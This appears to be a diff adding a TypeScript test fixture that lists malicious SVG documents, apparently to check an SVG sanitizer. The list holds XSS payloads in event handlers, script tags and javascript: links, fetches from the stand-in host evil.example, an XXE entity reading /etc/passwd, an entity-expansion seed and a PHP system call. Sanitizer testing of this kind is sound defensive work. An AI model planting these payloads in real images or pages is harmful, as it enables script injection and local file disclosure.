@@ -1,0 +1,125 @@
+const SPACE = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+const svg = (inner: string, root = ''): string =>
+  `<svg ${SPACE} width="40" height="40" viewBox="0 0 40 40" ${root}>${inner}<rect width="9" height="9"/></svg>`;
+
+const EVENTS = [
+  ...['load', 'error', 'click', 'mouseover', 'focus', 'focusin', 'activate', 'begin', 'end', 'repeat'],
+  ...[
+    'unload',
+    'abort',
+    'resize',
+    'scroll',
+    'zoom',
+    'animationstart',
+    'transitionend',
+    'pointerdown',
+    'wheel',
+  ],
+];
+const SCRIPT_LINKS = [
+  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java&#9;script:alert(1)', 'java&#10;script:alert(1)'],
+  ...[
+    '&#1;javascript:alert(1)',
+    ' javascript:alert(1)',
+    'vbscript:x',
+    'data:text/html,&lt;script>alert(1)&lt;/script>',
+  ],
+  ...['data:image/svg+xml,&lt;svg onload=alert(1)>', 'data:text/xml,x', '&#106;avascript:alert(1)'],
+];
+const OUTSIDE = [
+  ...[
+    'http://127.0.0.1:9/x',
+    'https://evil.example/x',
+    '//evil.example/x',
+    'x.svg#a',
+    '../x.svg',
+    'file:///etc/passwd',
+  ],
+  ...['ftp://evil.example/x', 'blob:x', 'x#y', '?x', '#a b http://evil.example'],
+];
+const STYLES = [
+  '@import url(http://evil.example/x.css);',
+  '@import "http://evil.example/x.css";',
+  '@font-face{font-family:x;src:url(http://evil.example/x.woff)}',
+  'rect{fill:url(http://evil.example/x#a)}',
+  'rect{fill:url("//evil.example/x#a")}',
+  'rect{mask:url(x.svg#a)}',
+  'rect{mask:image-set("http://evil.example/x" 1x)}',
+  'rect{fill:u\\72l(http://evil.example/x)}',
+  'rect{fill:expression(alert(1))}',
+  'rect{-moz-binding:url(http://evil.example/x.xml#a)}',
+  'rect{behavior:url(x.htc)}',
+  '@media all{rect{fill:url(http://evil.example/x)}}',
+  '@namespace url(http://evil.example);',
+  'rect{cursor:url(http://evil.example/x.cur)}',
+  'rect{background:url(http://evil.example/x)}',
+  'rect{fill:/**/url(http://evil.example/x)}',
+  'rect[fill="url(http://evil.example)"]{fill:red}',
+  'rect{fill:src("http://evil.example/x")}',
+  'rect{fill:var(--x,url(http://evil.example/x))}',
+];
+const INNER = [
+  '<script>alert(1)</script>',
+  '<script href="http://evil.example/x.js"/>',
+  '<script xlink:href="data:text/javascript,alert(1)"/>',
+  '<SCRIPT>alert(1)</SCRIPT>',
+  '<g><g><script>alert(1)</script></g></g>',
+  '<metadata><script>alert(1)</script></metadata>',
+  '<title><script>alert(1)</script></title>',
+  '<defs><script>alert(1)</script></defs>',
+  '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
+  '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
+  '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
+  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
+  '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
+  '<iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/>',
+  '<animate attributeName="href" values="javascript:alert(1)"/>',
+  '<set attributeName="onmouseover" to="alert(1)"/>',
+  '<animateTransform attributeName="transform" onbegin="alert(1)"/>',
+  '<animateMotion path="M0 0"/>',
+  '<handler type="text/ecmascript">alert(1)</handler>',
+  '<listener event="load" handler="#x"/>',
+  '<embed xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/>',
+  '<object xmlns="http://www.w3.org/1999/xhtml" data="http://evil.example"/>',
+  '<filter id="f"><feImage href="http://evil.example/x"/></filter>',
+  '<pattern id="p"><image href="http://evil.example/x"/></pattern>',
+  '<cursor xlink:href="http://evil.example/x.cur"/>',
+  '<font-face><font-face-src><font-face-uri xlink:href="http://evil.example/x"/></font-face-src></font-face>',
+  '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="http://evil.example/x.css"/>',
+  '<g xml:base="http://evil.example/"><use href="#a"/></g>',
+  '<image href="data:image/png;base64,AAAA"/>',
+  '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
+  '<discard begin="0s"/>',
+  '<video xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/x"/>',
+  '<rect width="1" height="1" data-x="javascript:alert(1)" fill="red"/>',
+  '<desc>javascript:alert(1) http://evil.example</desc>',
+];
+const WHOLE = [
+  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
+  `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${svg('<text>&b;</text>')}`,
+  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg('')}`,
+  `<?xml-stylesheet href="http://evil.example/x.css"?>${svg('')}`,
+  `<?xml-stylesheet type="text/xsl" href="#x"?>${svg('')}`,
+  `<?php system("id") ?>${svg('')}`,
+  svg('<text>&undefined;</text>'),
+  svg('<![CDATA[<script>alert(1)</script>]]>'),
+  svg('<text><![CDATA[<script>alert(1)</script>]]></text>'),
+  svg('<!--><script>alert(1)</script>-->'),
+];
+
+/** Drawings that try to run or to fetch something when they are opened directly. */
+export const SVG_ATTACKS: readonly string[] = [
+  ...EVENTS.map((name) => svg('', `on${name}="alert(1)"`)),
+  ...EVENTS.slice(0, 6).map((name) => svg(`<path d="M0 0" ON${name}="alert(1)"/>`)),
+  ...SCRIPT_LINKS.map((link) => svg(`<a xlink:href="${link}"><rect width="9" height="9"/></a>`)),
+  ...SCRIPT_LINKS.map((link) => svg(`<use href="${link}"/>`)),
+  ...OUTSIDE.map((link) => svg(`<use xlink:href="${link}"/>`)),
+  ...OUTSIDE.slice(0, 7).map((link) => svg(`<image href="${link}" width="9" height="9"/>`)),
+  ...OUTSIDE.slice(0, 5).map((link) => svg(`<rect fill="url(${link})" width="9" height="9"/>`)),
+  ...STYLES.map((style) => svg(`<style>${style}</style>`)),
+  ...['fill:url(http://evil.example/x)', 'fill:u\\72l(x)', 'background:url(//evil.example/x)'].map((style) =>
+    svg(`<rect style="${style}" width="9" height="9"/>`),
+  ),
+  ...INNER.map((inner) => svg(inner)),
+  ...WHOLE,
+];
